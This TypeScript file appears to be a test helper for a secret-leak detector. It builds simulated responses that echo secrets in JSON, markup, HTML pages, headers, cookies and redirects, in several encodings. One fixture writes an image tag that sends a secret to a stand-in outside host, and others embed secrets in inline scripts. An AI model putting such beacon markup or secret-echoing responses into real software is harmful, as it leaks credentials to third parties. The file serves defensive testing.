import type { Changed } from './recording-service.ts';
import { sentSecrets } from './sent-secrets.ts';

const bytes = (text: string, write: (hex: string) => string) =>
  [...Buffer.from(text)].map((byte) => write(byte.toString(16).padStart(2, '0'))).join('');
const percent = (text: string) => bytes(text, (hex) => `%${hex}`);
const entities = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const escapes = (text: string) =>
  [...text].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const quoted = (text: string) => JSON.stringify(text).slice(1, -1);
const plain = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const word = (text: string) => text.replaceAll(/[^\w-]/g, '');

/** Writings that a service may have made of a registered secret. */
function oddWritings(value: string): readonly string[] {
  return [
    percent(value),
    percent(percent(value)),
    bytes(value, (hex) => hex),
    value.toUpperCase(),
    [...value].reverse().join(''),
    ...['', 'a', 'ab'].map((before) => Buffer.from(before + value).toString('base64')),
  ];
}

/** What tells that one of those writings was kept: in Base64 the outermost signs belong to the neighbours, too. */
export function oddTraces(value: string): readonly string[] {
  return oddWritings(value).map((written, at) => (at < 5 ? written : written.slice(4, -6)));
}

const inJson: Readonly<Record<string, (secret: string) => string>> = {
  'a member': (secret) => `"m":"${quoted(secret)}"`,
  'a member among letters': (secret) => `"m":"X${quoted(secret)}X"`,
  'a member name': (secret) => `"${quoted(secret)}":1`,
  'a list': (secret) => `"l":[["${quoted(secret)}"]]`,
  'JSON in JSON': (secret) => `"j":${JSON.stringify(JSON.stringify({ x: secret }))}`,
  'a form in JSON': (secret) => `"f":"a=1&b=${encodeURIComponent(secret)}&c="`,
  'JSON escapes': (secret) => `"e":"${escapes(secret)}"`,
  'percent signs in JSON': (secret) => `"p":"${percent(secret)}"`,
  'percent signs twice': (secret) => `"p":"${percent(percent(secret))}"`,
  'an address': (secret) => `"u":"https://x.example/?q=${encodeURIComponent(secret)}"`,
  'prose in JSON': (secret) => `"t":"token ${quoted(secret)} is not known"`,
};
const inMarkup: Readonly<Record<string, (secret: string) => string>> = {
  'an element': (secret) => `<m>${plain(secret)}</m>`,
  'an attribute': (secret) => `<m a="${plain(secret).replaceAll('"', '&quot;')}"></m>`,
  'a comment': (secret) => `<!-- ${secret.replaceAll('--', '- -')} -->`,
  'a CDATA section': (secret) => `<m><![CDATA[${secret.replaceAll(']]>', ']]]]><![CDATA[>')}]]></m>`,
  'numeric entities': (secret) => `<m>${entities(secret)}</m>`,
  'entities in an attribute': (secret) => `<m a='${entities(secret)}'></m>`,
  'percent signs in markup': (secret) => `<m>${percent(secret)}</m>`,
  'JSON in markup': (secret) => `<m>${plain(JSON.stringify({ x: secret }))}</m>`,
  'an element name': (secret) => `<m${word(secret)}>1</m${word(secret)}>`,
};
const inPage: Readonly<Record<string, (secret: string) => string>> = {
  'a page title': (secret) => `<title>${plain(secret)}</title>`,
  'a hidden input': (secret) => `<input type="hidden" name="m" value="${entities(secret)}">`,
  'an input name': (secret) => `<input type="hidden" name="${entities(secret)}" value="1">`,
  'a textarea': (secret) => `<textarea name="t">${plain(secret)}</textarea>`,
  'a script': (secret) => `<script>var s = "${quoted(secret).replaceAll('<', '\\u003c')}";</script>`,
  'escapes in a script': (secret) => `<script>var s = "${escapes(secret)}";</script>`,
  'a dialog': (secret) => `<script>alert("${escapes(secret)}");</script>`,
  'a script error': (secret) => `<script>throw new Error("${escapes(secret)}");</script>`,
  'the console': (secret) => `<script>console.error("${escapes(secret)}");</script>`,
  'a foreign request': (secret) => `<img src="http://foreign.invalid/${percent(secret)}">`,
};
const headerPlaces = ['a header', 'a header name', 'a cookie', 'a redirect address'];

/** Every place of a body with its medium. */
export const placesOf: Readonly<
  Record<string, { readonly medium: 'json' | 'markup' | 'page'; readonly write: (secret: string) => string }>
> = Object.fromEntries(
  (
    [
      ['json', inJson],
      ['markup', inMarkup],
      ['page', inPage],
    ] as const
  ).flatMap(([medium, ways]) =>
    Object.entries(ways).map(([place, write]) => [place, { medium, write }] as const),
  ),
);

/** Where secrets are echoed. */
export const places: readonly string[] = [
  ...Object.keys(inJson),
  ...Object.keys(inMarkup),
  ...Object.keys(inPage),
  ...headerPlaces,
];

function written(
  ways: Readonly<Record<string, (secret: string) => string>>,
  secrets: readonly string[],
  echoed: Set<string>,
): string[] {
  return Object.entries(ways).flatMap(([place, write]) => {
    echoed.add(place);
    return secrets.map(write);
  });
}

/** An answer that repeats every secret of its request, and those given, in every place that its medium has. */
export function echoOf(
  sent: string,
  { type, text }: Parameters<Changed>[1],
  known: readonly string[],
  echoed: Set<string>,
): ReturnType<Changed> {
  const own = [...sentSecrets([{ path: '', body: sent }]).values()].flatMap((values) => [...values]);
  const secrets = [...known, ...own.filter((value) => value.length < 100)];
  const odd = known.flatMap(oddWritings);
  for (const place of headerPlaces) echoed.add(place);
  const header = secrets.map(encodeURIComponent).join(' ');
  const headers = {
    'x-echo': header,
    [`x-${word(known[0] ?? '')}`]: '1',
    'set-cookie': secrets.map((secret, at) => `c${at}=${encodeURIComponent(secret)}`),
    location: `/elsewhere?q=${header.replaceAll(' ', '+')}`,
  };
  if (text.trimStart().startsWith('{')) {
    const members = [...written(inJson, secrets, echoed), ...odd.map((one) => `"o":"${quoted(one)}"`)];
    return { text: text.replace('{', `{${members.join(',')},`), headers };
  }
  const markup = [...written(inMarkup, secrets, echoed), ...odd.map((one) => `<o>${plain(one)}</o>`)];
  if (!/html/i.test(type)) return { text: text.replace(/(<\/[\w:]+>\s*)$/, `${markup.join('')}$1`), headers };
  const page = written(inPage, secrets, echoed).join('\n');
  return { text: text.replace(/(?=<\/form>|<\/body>)/, `${page}${markup.join('')}`), headers };
}
